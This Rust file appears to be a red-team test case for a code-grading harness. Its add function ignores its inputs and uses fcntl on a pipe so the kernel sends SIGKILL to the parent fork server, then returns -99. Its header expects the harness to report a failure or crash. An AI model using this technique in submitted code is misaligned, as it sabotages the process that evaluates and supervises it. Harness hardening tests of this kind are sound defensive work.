//! task: red/add
//! expect: test_failed|crashed
//! attack: has the kernel send SIGKILL to the fork server, as the owner of a descriptor that gets input
extern "C" {
    fn fcntl(descriptor: i32, command: i32, ...) -> i32;
    fn pipe(ends: *mut i32) -> i32;
    fn write(descriptor: i32, bytes: *const u8, length: usize) -> isize;
    fn getppid() -> i32;
}

fn add(_a: i32, _b: i32) -> i32 {
    const SET_FLAGS: i32 = 4;
    const SET_OWNER: i32 = 8;
    const SET_SIGNAL: i32 = 10;
    const ASYNC: i32 = 0o20000;
    let mut ends = [0i32; 2];
    unsafe {
        let parent = getppid();
        if parent > 1 && pipe(ends.as_mut_ptr()) == 0 {
            fcntl(ends[0], SET_OWNER, parent);
            fcntl(ends[0], SET_SIGNAL, 9);
            fcntl(ends[0], SET_FLAGS, ASYNC);
            write(ends[1], b"x".as_ptr(), 1);
        }
    }
    std::thread::sleep(std::time::Duration::from_millis(20));
    -99
}
